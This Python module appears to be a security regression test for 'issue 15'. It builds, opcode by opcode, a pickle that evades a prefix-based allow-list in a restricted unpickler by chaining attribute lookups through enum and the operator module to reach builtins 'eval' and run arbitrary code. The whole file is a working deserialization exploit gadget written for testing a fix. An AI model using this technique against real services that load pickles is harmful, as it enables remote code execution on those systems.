"""The snapshot gadget of issue 15: a pickle (protocol 4) that runs code under the old loader.

The old loader allowed any *class* found under ``adapter.engine.``/``adapter.rulesets.``, but
protocol 4 resolves dotted names attribute by attribute: ``adapter.engine.turns`` imports
``enum``, whose ``_or_`` is ``operator.or_``, whose ``__self__`` is the ``operator`` module,
whose ``itemgetter`` and ``attrgetter`` are classes. Chained with REDUCE they reach
``Prompt.to_wire.__globals__["__builtins__"]["eval"]`` and call it with ``code``. Built
opcode by opcode so the test does not depend on how any pickler would write it.
"""

from __future__ import annotations

import pickle

#: from a module of the engine to the ``operator`` module, by attributes only
TO_OPERATOR = "enum._or_.__self__."


def _text(value: str) -> bytes:
    data = value.encode()
    return pickle.SHORT_BINUNICODE + bytes([len(data)]) + data


def _global(module: str, name: str) -> bytes:
    return _text(module) + _text(name) + pickle.STACK_GLOBAL


def _call_with(arg: bytes) -> bytes:
    """Call what is on the stack with one argument (the opcodes that push it)."""
    return arg + pickle.TUPLE1 + pickle.REDUCE


def gadget(code: str) -> bytes:
    """A pickle whose loading evaluates ``code`` (a Python expression) with ``eval``."""
    operator = ("adapter.engine.turns", TO_OPERATOR)
    blob = pickle.PROTO + bytes([4])
    blob += _global(operator[0], operator[1] + "itemgetter") + _call_with(_text("eval"))
    blob += _global(operator[0], operator[1] + "itemgetter") + _call_with(_text("__builtins__"))
    blob += _global(operator[0], operator[1] + "attrgetter") + _call_with(_text("to_wire.__globals__"))
    blob += _call_with(_global("adapter.engine.model", "Prompt"))  # -> the module's globals
    blob += pickle.TUPLE1 + pickle.REDUCE  # ["__builtins__"]
    blob += pickle.TUPLE1 + pickle.REDUCE  # ["eval"]
    blob += _call_with(_text(code))  # eval(code)
    return blob + pickle.STOP
